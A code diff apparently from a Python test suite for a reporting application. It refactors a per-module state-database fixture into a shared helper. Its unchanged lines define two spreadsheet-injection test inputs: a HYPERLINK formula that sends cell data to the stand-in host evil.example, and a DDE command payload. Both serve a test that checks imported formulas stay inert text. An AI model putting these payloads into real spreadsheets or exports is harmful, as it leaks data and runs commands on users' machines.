@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 import shutil
 from pathlib import Path
 
@@ -21,8 +20,9 @@ from sdg16.reports.build import build_report
 from sdg16.reports.render import render
 from sdg16.state import accounts
 from sdg16.state.roles import Role
-from testkit.auth import PASSWORDS, signed_in
+from testkit.auth import signed_in
 from testkit.downloads import capture, fetch
+from testkit.fixtures import module_state_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 HOSTILE_NAME = "=cmd|'/c calc'!a0"
@@ -50,18 +50,7 @@ def formula_store(store_path: Path, tmp_path_factory: pytest.TempPathFactory) ->
     return path
 
 
-@pytest.fixture(scope="module", autouse=True)
-def state_db(tmp_path_factory: pytest.TempPathFactory, store_path: Path):
-    path = tmp_path_factory.mktemp("state") / "app_state.sqlite"
-    old = os.environ.get("SDG16_STATE_DB")
-    os.environ["SDG16_STATE_DB"] = str(path)
-    for name, role in (("ana", Role.ANALYST), ("root", Role.ADMIN)):
-        accounts.add_user(name, role, PASSWORDS[name])
-    yield path
-    if old is None:  # an empty value would leak into the next module's state path
-        os.environ.pop("SDG16_STATE_DB", None)
-    else:
-        os.environ["SDG16_STATE_DB"] = old
+state_db = module_state_db("ana", "root")
 
 
 def test_excel_report_holds_imported_formulas_as_text(formula_store: Path) -> None:
